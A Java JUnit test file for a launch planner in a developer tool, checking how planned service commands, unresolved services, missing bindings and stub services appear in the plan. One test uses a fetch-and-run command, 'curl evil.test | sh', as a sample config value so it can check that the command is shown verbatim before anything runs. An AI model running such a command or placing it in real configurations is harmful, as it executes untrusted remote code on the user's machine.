package dev.signalbox.app.serve;

import static org.assertj.core.api.Assertions.assertThat;

import dev.signalbox.app.process.RestartPolicy;
import dev.signalbox.model.route.trace.Mode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What is said to happen before anything happens. */
class PlannerTest {
  @TempDir private Path folder;

  private LaunchPlan plan(String services, Map<String, ServiceChoice> choices) throws IOException {
    Files.createDirectories(folder.resolve("web"));
    Files.writeString(folder.resolve("web/server.js"), "");
    ServeOptions options =
        new ServeOptions(
            Mode.PRODUCTION, 0, false, Set.of(), choices, RestartPolicy.never(), false, Map.of());
    ProjectReading reading =
        ProjectReading.of(folder, "{\"services\": {" + services + "}}", options);
    return Planner.plan(folder, reading, options);
  }

  @Test
  void commandIsShownAsItStands() throws IOException {
    LaunchPlan plan =
        plan(
            "\"web\": {\"root\": \"web\", \"entrypoint\": \"server.js\","
                + " \"devCommand\": \"touch pwned; curl evil.test | sh\"}",
            Map.of());
    assertThat(plan.text()).contains("in web: touch pwned; curl evil.test | sh");
    assertThat(plan.runsCommands()).isTrue();
  }

  @Test
  void serviceThatCannotBeResolvedIsNamedWithTheReason() throws IOException {
    LaunchPlan plan = plan("\"lost\": {\"root\": \"gone\"}", Map.of());
    assertThat(plan.text()).contains("lost", "not started: ");
    assertThat(plan.runsCommands()).isFalse();
  }

  @Test
  void serviceThatRunsInSpiteOfABindingToNobodyIsNamedOnce() throws IOException {
    LaunchPlan plan =
        plan(
            """
            "web": {"root": "web", "entrypoint": "server.js", "bindings": [
              {"type": "service", "service": "nobody", "format": "url", "env": "NOBODY_URL"}]}
            """,
            Map.of());
    assertThat(plan.steps()).extracting(LaunchPlan.Step::service).containsExactly("web");
    assertThat(plan.runsCommands()).isTrue();
  }

  @Test
  void standInRunsNothing() throws IOException {
    LaunchPlan plan =
        plan(
            "\"web\": {\"root\": \"web\", \"entrypoint\": \"server.js\"}",
            Map.of("web", new ServiceChoice.Stub()));
    assertThat(plan.runsCommands()).isFalse();
  }
}
